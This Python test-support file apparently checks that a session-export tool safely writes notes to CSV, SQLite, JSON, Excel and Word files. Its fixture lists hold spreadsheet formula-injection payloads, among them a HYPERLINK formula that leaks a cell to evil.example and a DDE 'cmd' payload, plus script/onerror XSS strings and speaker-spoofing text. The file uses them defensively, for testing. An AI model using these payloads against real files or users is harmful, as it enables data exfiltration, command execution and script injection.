"""Sessions to export, and the ways to read the exports back as their users' programs do."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from contextlib import closing
from pathlib import Path
from zipfile import ZipFile, is_zipfile

import docx
from openpyxl import load_workbook

from fishbowl.core.cards import DrawCard
from fishbowl.core.notes import OpenTablecloths, WriteNote
from fishbowl.core.session import EndSession
from fishbowl.core.stages import OpenStage
from fishbowl.export import FORMATS, Options, export, format_of
from tests.support.held import Held
from tests.text.hostile import HARMLESS, HOSTILE

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
)
MARKUP = (
    "# not a heading",
    "- not a list",
    "1. not a list",
    "> not a quote",
    "*em* **strong** _em_ __strong__ ~~gone~~ `code` ``code``",
    "[link](javascript:alert(1)) ![image](http://evil.example/x.png) [ref]: http://evil.example",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- gone -->",
    "http://evil.example https://evil.example www.evil.example evil.example <http://evil.example>",
    "| a | b |",
    "&lt;b&gt; &#60; &copy;",
    "$x^2$ \\begin{x} {.class} [^1] [@cite] ==mark== %%gone%%",
    "```\nfence\n```",
    "    indented",
    "title\n===",
    "a  \nb\\",
    "***",
    "- [ ] task",
    "\\* already",
)
HOSTILE_SAID = (
    "Dus: ja",
    "@S2: nee",
    "S2: zei ik",
    "een\nS2: twee",
    "een\r\n@S2: twee",
    "\u2028M: x",
    "\tS2:",
    "=1+1",
)
"""Said, and made to look like someone else's turn."""
TYPED = (
    *FORMULAS,
    *MARKUP,
    *(text for text in (*HOSTILE.values(), *HARMLESS) if text.strip() and len(text) <= 4000),
)


def hostile(tmp_path: Path) -> Held:
    """A session whose notes are all that could do harm, opened and ended."""
    held = Held(tmp_path, name="=1+1 [x](http://evil.example)")
    held.at(10, "M", OpenStage("binding"))
    held.at(20, "T", DrawCard())
    for number, text in enumerate(TYPED):
        held.at(30 + number, "O1", WriteNote(f"n{number}", "O1", "observation"), text=text)
    held.at(1000, "M", OpenStage("break"))
    held.at(1001, "M", OpenTablecloths())
    held.at(1100, "M", EndSession())
    return held


def exported(held: Held, name: str, folder: Path, options: Options | None = None) -> Path:
    target = folder / f"x{format_of(name).ENDING}"
    export(held.record(), name, target, options or Options())
    return target


def all_bytes(held: Held, folder: Path) -> dict[str, bytes]:
    """Every file of every format, by its name, and what is in those that are packed."""
    found = {}
    for name in FORMATS:
        target = exported(held, name, folder)
        for path in (target, *target.rglob("*")):
            if path.is_file():
                found[str(path.relative_to(folder))] = path.read_bytes()
    packed = {name: content for name, content in found.items() if is_zipfile(io.BytesIO(content))}
    for name, content in packed.items():
        with ZipFile(io.BytesIO(content)) as archive:
            found |= {f"{name}/{member}": archive.read(member) for member in archive.namelist()}
    return found


def csv_rows(folder: Path, table: str, separator: str = ",") -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=separator))


def sqlite_rows(path: Path, table: str) -> list[dict[str, object]]:
    with closing(sqlite3.connect(path)) as connection:
        connection.row_factory = sqlite3.Row
        return [dict(row) for row in connection.execute(f"SELECT * FROM {table}")]


def lines_of(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text("ascii").split("\n")[:-1]]


def sheets(path: Path) -> dict[str, list[dict[str, object]]]:
    """The rows of each sheet of a workbook, as openpyxl reads them."""
    book = load_workbook(path)
    found: dict[str, list[dict[str, object]]] = {}
    for sheet in book.worksheets:
        heads, *rows = sheet.iter_rows(values_only=True)
        found[sheet.title] = [dict(zip(map(str, heads), row, strict=True)) for row in rows]
    return found


def paragraphs(path: Path) -> list[str]:
    """The paragraphs of a text or Word file that have something in them."""
    if path.suffix == ".docx":
        texts = [paragraph.text for paragraph in docx.Document(str(path)).paragraphs]
    else:
        texts = path.read_text("utf-8-sig").split("\n")
    return [text for text in texts if text]
